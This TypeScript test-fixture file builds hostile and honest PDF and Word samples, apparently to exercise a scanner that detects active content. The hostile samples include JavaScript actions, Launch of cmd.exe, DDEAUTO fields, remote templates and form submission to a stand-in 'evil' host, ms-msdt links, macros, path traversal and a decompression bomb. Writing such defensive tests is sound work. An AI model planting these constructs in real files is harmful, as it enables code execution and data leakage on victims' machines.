import { deflateSync } from "node:zlib";
import { docx, pdf, zipOf } from "./hostile-files";

/** An object stream that holds these objects, numbered from 20, packed as PDF writers do. */
export function objectStream(
  objects: readonly string[],
  { type = "/Type/ObjStm", filter = "/FlateDecode" } = {},
): string {
  let at = 0;
  const places = objects.map((object, i) => {
    const place = `${20 + i} ${at}`;
    at += object.length + 1;
    return place;
  });
  const head = `${places.join(" ")} `;
  const data = Buffer.from(`${head}${objects.join(" ")}`, "latin1");
  const packed =
    filter === "/FlateDecode"
      ? deflateSync(data).toString("latin1")
      : filter
        ? `${data.toString("hex")}>`
        : data.toString("latin1");
  const filters = filter ? `/Filter${filter}` : "";
  return `9 0 obj<<${type}/N ${objects.length}/First ${head.length}${filters}/Length ${packed.length}>>stream\n${packed}\nendstream\nendobj`;
}

/** PDFs that start something by themselves, enclose a file, or hide from readers of their text. */
export const hostilePdfs = (): [string, Buffer][] => {
  const script = "<</S/JavaScript/JS(app.alert(1))>>";
  const packed = (object: string, how?: { type?: string; filter?: string }) => pdf(objectStream([object], how));
  return [
    ["a script", pdf(`3 0 obj${script}endobj`)],
    ["a script with escaped letters", pdf("3 0 obj<</S/J#61va#53cript/J#53(x)>>endobj")],
    ["a script in hexadecimal", pdf("3 0 obj<</S /JavaScript /JS <6170702e616c657274>>>endobj")],
    ["a script in an object stream", packed(script)],
    ["a script in an object stream in hexadecimal", packed(script, { filter: "/ASCIIHexDecode" })],
    ["a script in an object stream that is not packed", packed(script, { filter: "" })],
    ["a script in an object stream that does not say so", packed(script, { type: "" })],
    [
      "a script in an object stream under a short filter name",
      pdf(objectStream([script]).replace("/FlateDecode", "/Fl")),
    ],
    ["a script in an object stream with escaped names", packed("<</S/#4aavaScript>>")],
    ["an object stream with an unknown filter", pdf(objectStream([script]).replace("/FlateDecode", "/Crypt"))],
    [
      "an object stream whose filter stands elsewhere",
      pdf(objectStream([script]).replace("/Filter/FlateDecode", "/Filter 8 0 R")),
    ],
    [
      "an object stream with parameters",
      pdf(objectStream([script]).replace("/Filter", "/DecodeParms<</Predictor 12>>/Filter")),
    ],
    ["an object stream without its numbers", pdf(objectStream([script]).replace(/\/First \d+/, ""))],
    ["an object stream that unpacks to gigabytes", pdf(objectStream([`(${"a".repeat(120 * 1024 * 1024)})`]))],
    ["a script on opening", pdf("3 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS 5 0 R>>>>endobj")],
    ["an address on opening", pdf("3 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://evil)>>>>endobj")],
    [
      "an address on opening, elsewhere",
      pdf("3 0 obj<</Type/Catalog/OpenAction 4 0 R>>endobj\n4 0 obj<</S/URI/URI(http://evil)>>endobj"),
    ],
    [
      "an address on opening, in an object stream",
      pdf(`3 0 obj<</Type/Catalog/OpenAction 20 0 R>>endobj\n${objectStream(["<</S/URI/URI(http://evil)>>"])}`),
    ],
    ["an action of a page", pdf("3 0 obj<</Type/Page/AA<</O 4 0 R>>>>endobj")],
    ["an action of a page in an object stream", packed("<</Type/Page/AA<</O 4 0 R>>>>")],
    ["a program to start", pdf("3 0 obj<</S/Launch/F(cmd.exe)>>endobj")],
    ["a program to start, in an object stream", packed("<</S/Launch/Win<</F(cmd.exe)>>>>")],
    ["enclosed files", pdf("3 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj")],
    ["an enclosed file's own stream", pdf("3 0 obj<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream endobj")],
    ["enclosed files in an object stream", packed("<</Names<</EmbeddedFiles 4 0 R>>>>")],
    ["an attachment on a page", packed("<</Subtype/FileAttachment/FS<</EF<</F 5 0 R>>>>>>")],
    ["rich media", packed("<</Subtype/RichMedia/RichMediaContent 5 0 R>>")],
    ["a form in XML", pdf("3 0 obj<</AcroForm<</XFA 4 0 R>>>>endobj")],
    ["a form in XML in an object stream", packed("<</AcroForm<</X#46A 4 0 R>>>>")],
    ["a form that is sent away", packed("<</S/SubmitForm/F(http://evil)>>")],
    ["a film", packed("<</Subtype/Movie/Movie 5 0 R>>")],
    ["another file to open", packed("<</S/GoToR/F(//evil/a.pdf)>>")],
    ["a script in a comment, to which an offset leads", pdf(`%3 0 obj${script}endobj`)],
    ["a script in a text, to which an offset leads", pdf("3 0 obj<</Title(4 0 obj<</S/JavaScript>>endobj)>>endobj")],
    [
      "a script in a picture, to which an offset leads",
      pdf(`3 0 obj<</Filter/DCTDecode/Length 60>>stream\n4 0 obj${script}endobj\nendstream endobj`),
    ],
    ["a stream in another file", pdf("3 0 obj<</F(//evil/x)/Length 0>>stream\n\nendstream endobj")],
    ["encryption", Buffer.from(pdf().toString("latin1").replace("/Root", "/Encrypt 9 0 R/Root"), "latin1")],
    ["lists without end", pdf(`3 0 obj${"[".repeat(100_000)}endobj`)],
    ["a dictionary without end", pdf("3 0 obj<</A 1 endobj")],
    ["a stream without end", pdf("3 0 obj<</Length 9>>stream\nabc endobj")],
    ["no catalogue", Buffer.from("%PDF-1.4\n1 0 obj<</Type/Page>>endobj\n%%EOF\n", "latin1")],
  ];
};

const rels = (type: string, target: string, mode = ' TargetMode="External"') => ({
  name: "word/_rels/document.xml.rels",
  data: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
});
const body = (inside: string) => ({ name: "word/footer1.xml", data: `<w:ftr>${inside}</w:ftr>` });
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (...runs: string[]) => body(`${mark("begin")}${runs.map(run).join("")}${mark("separate")}${mark("end")}`);

/** Word papers whose fields fetch or start something. */
const hostileFields = (): [string, Buffer][] => [
  ["DDE", docx([field("DDEAUTO c:\\\\windows\\\\cmd.exe")])],
  ["DDE split over runs", docx([field(" DD", "EA", "UTO cmd")])],
  ["DDE in a simple field", docx([body('<w:fldSimple w:instr="DDE excel x"/>')])],
  ["DDE in a simple field with references", docx([body('<w:fldSimple w:instr="&#68;&#x44;E excel x"/>')])],
  ["DDE in CDATA", docx([field("<![CDATA[DDEAUTO]]> x")])],
  [
    "DDE put together by fields",
    docx([body(`${mark("begin")}${mark("begin")}${run("QUOTE 68 68 69")}${mark("end")}${mark("end")}`)]),
  ],
  [
    "DDE in deleted text",
    docx([body(`${mark("begin")}<w:r><w:delInstrText>DDE x</w:delInstrText></w:r>${mark("end")}`)]),
  ],
  ["DDE without an end", docx([body(`${mark("begin")}${run("DDE x")}`)])],
  ["a picture by field", docx([field('INCLUDEPICTURE "http://evil/a.png"')])],
  ["a text by field", docx([field('INCLUDETEXT "\\\\\\\\evil\\\\a"')])],
  ["a macro by field", docx([field("MACROBUTTON x")])],
  ["a linked object by field", docx([field("LINK Excel.Sheet x")])],
  ["a link by field to another machine", docx([field('HYPERLINK "\\\\\\\\evil\\\\a"')])],
];

/** Word papers that fetch or start something, enclose a file, or hide it. */
export const hostilePapers = (): [string, Buffer][] => [
  ...hostileFields(),
  ["a template from elsewhere", docx([rels("attachedTemplate", "http://evil/t.dotm")])],
  ["a template within", docx([rels("attachedTemplate", "t.dotx", "")])],
  [
    "a template in single quotes and other letters",
    docx([
      {
        name: "word/_rels/settings.xml.RELS",
        data: `<Relationships><Relationship Type='x/ATTACHEDTEMPLATE' Target='http://evil' TargetMode = 'external' /></Relationships>`,
      },
    ]),
  ],
  [
    "a template behind a prefix and references",
    docx([
      {
        name: "word/_rels/settings.xml.rels",
        data: `<p:Relationships xmlns:p="x"><p:Relationship Type="x/attached&#84;emplate" Target="http://evil" TargetMode="Exter&#x6e;al"/></p:Relationships>`,
      },
    ]),
  ],
  ["an outside address without saying so", docx([rels("image", "http://evil/a.png", "")])],
  ["another machine without saying so", docx([rels("image", "\\\\evil\\a.png", "")])],
  ["a picture from elsewhere", docx([rels("image", "http://evil/a.png")])],
  ["a linked object", docx([rels("oleObject", "file:///c:/a.xlsx")])],
  ["an enclosed object by relation", docx([rels("oleObject", "object1.bin", "")])],
  ["a page taken in", docx([rels("aFChunk", "page.mht", "")])],
  ["a page taken in, by element", docx([body('<w:altChunk r:id="r1"/>')])],
  [
    "a page of another type",
    docx([{ name: "word/a.html", data: "<html/>" }], undefined, '<Default Extension="html" ContentType="text/html"/>'),
  ],
  ["a frame from elsewhere", docx([rels("frame", "http://evil/f.htm")])],
  ["a frameset", docx([{ name: "word/webSettings.xml", data: "<w:webSettings><w:frameset/></w:webSettings>" }])],
  ["a paper within a paper", docx([body('<w:subDoc r:id="r1"/>')])],
  ["data from elsewhere", docx([{ name: "word/settings.xml", data: "<w:settings><w:mailMerge/></w:settings>" }])],
  ["a link to a script", docx([rels("hyperlink", "javascript:alert(1)")])],
  ["a link to a program's scheme", docx([rels("hyperlink", "ms-msdt:/id PCWDiagnostic")])],
  ["a link to another machine", docx([rels("hyperlink", "\\\\evil\\share")])],
  ["a link to a file", docx([rels("hyperlink", "file:///c:/windows/a.exe")])],
  ["an object by element", docx([body('<w:object><o:OLEObject Type="Link"/></w:object>')])],
  ["a control by element", docx([body('<w:control r:id="r1"/>')])],
  ["a drawing from elsewhere", docx([body('<v:imagedata src="http://evil/a.png"/>')])],
  ["macros", docx([{ name: "word/vbaProject.bin", data: "x" }])],
  ["macros in other letters", docx([{ name: "word/VBAPROJECT.BIN", data: "x" }])],
  ["macros by type", docx([], "application/vnd.ms-word.document.macroEnabled.main+xml")],
  ["controls", docx([{ name: "word/activeX/activeX1.xml", data: "<x/>" }])],
  ["enclosed files", docx([{ name: "word/embeddings/a.xlsx", data: "x" }])],
  ["buttons of its own", docx([{ name: "customUI/customUI.xml", data: "<x/>" }])],
  ["a program", docx([{ name: "word/media/run.exe", data: "x" }])],
  ["a document type", docx([{ name: "word/footer1.xml", data: '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }])],
  [
    "another encoding",
    docx([{ name: "word/footer1.xml", data: Buffer.from('<?xml version="1.0" encoding="utf-16"?><x/>', "utf16le") }]),
  ],
  ["an element without end", docx([body('<w:fldSimple w:instr="x')])],
  ["two parts of one name", docx([{ name: "word/Document.xml", data: "<x/>" }])],
  ["a path out of the file", docx([{ name: "../../a.xml", data: "<x/>" }])],
  ["a path of another system", docx([{ name: "word\\a.xml", data: "<x/>" }])],
  [
    "names that differ",
    Buffer.from(
      docx([{ name: "word/a.xml", data: "<x/>" }])
        .toString("latin1")
        .replace("word/a.xml", "word/b.xml"),
      "latin1",
    ),
  ],
  [
    "no paper at all",
    zipOf([
      { name: "[Content_Types].xml", data: "<Types/>" },
      { name: "word/document.xml", data: "<x/>" },
    ]),
  ],
];

/** PDFs and papers as different programs write them, with everything that only looks suspicious. */
export const honestPdfs = (): [string, Buffer][] => [
  ["plain", pdf()],
  ["with an object stream", pdf(objectStream(["<</Type/Page/Parent 2 0 R>>", "<</S/GoTo/D[3 0 R/Fit]>>"]))],
  ["opened at a page", pdf("3 0 obj<</Type/Catalog/OpenAction[4 0 R/XYZ null null 0]>>endobj")],
  [
    "opened at a place elsewhere",
    pdf("3 0 obj<</Type/Catalog/OpenAction 4 0 R>>endobj\n4 0 obj<</S/GoTo/D[5 0 R/Fit]>>endobj"),
  ],
  ["with a link", pdf("3 0 obj<</Subtype/Link/A<</S/URI/URI(https://example.cn/a\\(b\\))>>>>endobj")],
  [
    "with a link to a mail, to a place beside it and one without its beginning",
    pdf("3 0 obj[<</S/URI/URI(mailto:a@b.cn)>><</S/URI/URI<77772e62>>><</S/URI/URI(www.example.cn/a)>>]endobj"),
  ],
  ["with /JS by chance in a picture", pdf("3 0 obj<</Length 9>>stream\nab/JS cd/AA \nendstream endobj")],
  [
    "with the profile of a colour and the second page of an outline",
    pdf(
      "3 0 obj<</N 3/Alternate/DeviceRGB/Length 4>>stream\nabcd\nendstream endobj\n4 0 obj<</First 5 0 R/Last 5 0 R/Next 6 0 R/A<</S/URI/URI(https://example.cn)>>>>endobj",
    ),
  ],
  [
    "with strings, comments and numbers of all kinds",
    pdf("3 0 obj<</Title(\\(a(b)c\\)%x)/H<FEFF 4e2d>/N[-.5 +3 .7 4.]/B true/Z null>>endobj % done\n"),
  ],
  ["with text about scripts", pdf("3 0 obj<</Title(On Java and launch)>>endobj")],
  [
    "with a form to fill in",
    pdf("3 0 obj<</AcroForm<</Fields[4 0 R]/NeedAppearances true>>>>endobj\n4 0 obj<</FT/Tx/T(a)>>endobj"),
  ],
];
export const honestPapers = (): [string, Buffer][] => [
  ["plain", docx()],
  ["with links", docx([rels("hyperlink", "https://example.cn/a?b=1&amp;c=2")])],
  ["with mail and telephone", docx([rels("hyperlink", "mailto:a@example.cn")])],
  ["with pictures and styles", docx([rels("image", "media/image1.png", "")])],
  [
    "with page numbers and contents",
    docx([
      field(" PAGE "),
      {
        name: "word/header1.xml",
        data: `<w:hdr>${mark("begin")}${run(' TOC \\o "1-3" \\h ')}${mark("separate")}${mark("end")}<w:fldSimple w:instr=" NUMPAGES "/></w:hdr>`,
      },
    ]),
  ],
  [
    "with a condition over fields",
    docx([
      body(
        `${mark("begin")}${run(" IF ")}${mark("begin")}${run(" PAGE ")}${mark("end")}${run(' = 1 "a" "b" ')}${mark("separate")}${mark("end")}`,
      ),
    ]),
  ],
  [
    "with an XML head, comments and CDATA",
    docx([
      {
        name: "word/footnotes.xml",
        data: '\uFEFF<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!-- a > b --><w:x w:y=\'a>b\'><![CDATA[a < b]]></w:x>',
      },
    ]),
  ],
  [
    "with a font, a drawing of the web and the settings of a printer",
    docx(
      [
        { name: "word/fonts/font1.odttf", data: "\u0001scrambled" },
        { name: "word/media/image2.svg", data: '<svg><a xlink:href="https://example.cn"/><use href="#a"/></svg>' },
        { name: "word/printerSettings1.bin", data: "a\0b" },
        { name: "word/media/image1.png", data: Buffer.from("89504e470d0a1a0a", "hex") },
      ],
      undefined,
      '<Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="png" ContentType="image/png"/>',
    ),
  ],
  ["with links by field", docx([field(' HYPERLINK "https://example.cn/a:b" \\o "tip" ')])],
  ["with a place in itself by field", docx([field(' HYPERLINK \\l "_Toc1" ')])],
  ["with words about macros", docx([{ name: "word/comments.xml", data: "<w:c>DDEAUTO, vbaProject, altChunk</w:c>" }])],
];
